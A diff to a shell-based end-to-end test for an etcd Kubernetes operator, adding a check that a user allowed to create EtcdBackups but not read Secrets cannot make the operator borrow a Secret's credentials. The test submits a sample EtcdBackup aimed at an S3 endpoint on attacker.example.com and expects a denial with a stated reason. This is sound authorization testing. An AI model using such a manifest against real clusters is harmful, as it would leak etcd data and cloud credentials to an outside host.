@@ -97,6 +97,52 @@ wait_for "an endpoint inside the cluster refused" 120 apiserver_refused
 log "refused: $(ready_message to-apiserver)"
 if grep -q steal "$WORK/moto.log"; then fail "the token thief's URL was called: $(grep steal "$WORK/moto.log")"; fi
 kubectl delete etcdbackup steal-token to-apiserver >/dev/null
+# Someone who may create EtcdBackups but not read Secrets cannot have the operator use one.
+kubectl apply -f - >/dev/null <<YAML
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata:
+  name: backup-author
+rules:
+  - apiGroups: ["etcd.etcd.io"]
+    resources: ["etcdbackups"]
+    verbs: ["create"]
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata:
+  name: backup-author
+roleRef:
+  apiGroup: rbac.authorization.k8s.io
+  kind: Role
+  name: backup-author
+subjects:
+  - apiGroup: rbac.authorization.k8s.io
+    kind: User
+    name: mallory
+YAML
+if out=$(kubectl --as=mallory create -f - 2>&1 <<YAML
+apiVersion: etcd.etcd.io/v1alpha1
+kind: EtcdBackup
+metadata:
+  name: borrowed-credentials
+spec:
+  clusterRef:
+    name: demo
+  destination:
+    s3:
+      bucket: etcd-backups
+      endpoint: https://attacker.example.com
+  credentialsSecretRef:
+    name: backup-credentials
+YAML
+); then
+  fail "mallory named a Secret she cannot read: $out"
+fi
+echo "$out" | grep -q "spec.credentialsSecretRef: mallory may not read Secret backup-credentials" \
+  || fail "the denial does not say why: $out"
+log "refused: $out"
+
 # The test's S3 server is on the node network: the administrator allows it.
 set_operator_env BACKUP_ENDPOINT_ALLOW 10.244.0.1
 
